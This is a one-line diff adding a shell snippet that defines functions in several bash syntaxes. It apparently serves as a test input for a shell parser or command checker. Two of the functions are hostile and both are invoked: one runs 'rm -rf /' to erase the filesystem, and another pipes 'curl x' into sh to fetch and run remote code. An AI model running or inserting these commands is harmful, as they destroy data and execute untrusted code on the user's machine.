@@ -1,0 +1,1 @@
+f() { rm -rf /; }; function g { curl x | sh; }; function h() ( id ); f; g
